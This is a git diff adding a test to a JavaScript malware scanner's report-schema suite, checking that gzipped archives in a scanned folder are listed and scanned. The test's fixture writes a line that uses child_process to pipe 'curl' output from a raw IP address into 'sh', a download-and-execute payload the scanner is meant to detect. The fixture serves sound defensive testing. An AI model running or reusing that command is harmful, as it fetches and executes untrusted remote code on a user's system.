@@ -1,6 +1,8 @@
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
-import { readFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { gzipSync } from 'node:zlib';
 import { join } from 'node:path';
 import { describe, it } from 'node:test';
 import Ajv2020 from 'ajv/dist/2020.js';
@@ -35,6 +37,23 @@ describe('JSON report contract (schema/report.schema.json)', () => {
     const tw = readFileSync(join(EXAMPLE, 'tailwind.config.js'));
     assert.equal(r.fileHashes?.['tailwind.config.js'], createHash('sha256').update(tw).digest('hex'));
     for (const file of Object.keys(r.fileHashes ?? {})) assert.ok(r.findings.some((f) => f.file === file), `${file} hashed but has no finding`);
+  });
+
+  it('archives inside the target are listed (schemaVersion 1.2.0), and their entries carry the archive path', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'lurescan-schema-nested-'));
+    try {
+      writeFileSync(join(dir, 'setup.js.gz'), gzipSync(Buffer.from("require('child_process').exec('curl -s http://45.61.160.14/s | sh');\n")));
+      writeFileSync(join(dir, 'index.js'), 'console.log(1);\n');
+      const r = await scan(dir);
+      assertValid(r);
+      assert.deepEqual(r.archives, ['setup.js.gz']);
+      assert.ok(r.findings.some((f) => f.file === 'setup.js.gz/setup.js'));
+      assert.equal(validate({ ...r, archives: [''] }), false, 'an empty archive path is not valid');
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+    const plain = await scan(EXAMPLE);
+    assert.equal(plain.archives, undefined, 'absent without archives');
   });
 
   it('an empty folder: valid, clean, complete', async () => {
